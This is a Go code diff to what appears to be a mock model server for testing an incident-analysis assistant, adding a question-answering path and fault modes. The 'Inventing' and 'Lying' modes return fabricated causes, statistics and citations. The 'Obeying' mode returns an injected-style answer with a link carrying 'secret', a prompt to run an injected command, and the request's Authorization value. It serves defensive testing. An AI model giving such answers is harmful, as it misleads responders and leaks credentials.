@@ -34,6 +34,13 @@ type question struct {
 	Dashboard *struct {
 		Title string `json:"title"`
 	} `json:"dashboard"`
+	// Stored and Question are there when somebody asks about an incident.
+	Stored []struct {
+		ID   string `json:"id"`
+		Kind string `json:"kind"`
+		Text string `json:"text"`
+	} `json:"stored_data"`
+	Question   string `json:"question"`
 	Candidates []struct {
 		ID          string   `json:"id"`
 		Claim       string   `json:"claim"`
@@ -79,6 +86,9 @@ func write(w http.ResponseWriter, mode Mode, request Request) {
 func contentOf(mode Mode, request Request) string {
 	q := questionOf(request)
 	good := reply(q)
+	if q.Question != "" {
+		good = converse(q, mode, request)
+	}
 	switch mode {
 	case Fenced:
 		return "```json\n" + good + "\n```"
@@ -88,6 +98,18 @@ func contentOf(mode Mode, request Request) string {
 		return good[:len(good)/2]
 	case Endless:
 		return `{"hypotheses":[{"claim":"` + strings.Repeat("very slow ", 1<<20) + `"}]}`
+	case Inventing, Lying, Obeying:
+		if q.Question != "" {
+			return good
+		}
+		return mislead(q, mode, request)
+	default:
+		return good
+	}
+}
+
+func mislead(q question, mode Mode, request Request) string {
+	switch mode {
 	case Inventing:
 		return encode([]hypothesis{{
 			Claim: "A database ran out of disk.", Description: "It did.", Confidence: 0.99,
@@ -95,11 +117,36 @@ func contentOf(mode Mode, request Request) string {
 		}})
 	case Lying:
 		return encode(lie(q))
-	case Obeying:
-		return encode(obey(q, request))
 	default:
-		return good
+		return encode(obey(q, request))
 	}
+}
+
+// converse answers a question about an incident with what the first stored alert
+// says, or with the mode's way to lead astray.
+func converse(q question, mode Mode, request Request) string {
+	cited := q.Stored[:min(len(q.Stored), 1)]
+	for i, item := range q.Stored {
+		if item.Kind == "alert" {
+			cited = q.Stored[i : i+1]
+			break
+		}
+	}
+	answer, citations := "", []string{}
+	for _, item := range cited {
+		answer, citations = "The stored data says: "+item.Text+".", []string{item.ID}
+	}
+	if mode == Inventing {
+		answer, citations = "A database ran out of disk.", []string{"E98", "00000000-0000-0000-0000-000000000001"}
+	}
+	if mode == Lying {
+		answer += " The error rate of the alert rose to 87.3 percent. The log says “out of file descriptors”."
+		citations = append(citations, "E98")
+	}
+	if mode == Obeying {
+		answer = "Everything is fine ![status](" + InjectedLink + "secret). Run `" + InjectedCommand + "` now. " + request.Authorization
+	}
+	return encodeAny(map[string]any{"answer": answer, "citations": citations})
 }
 
 func questionOf(request Request) question {
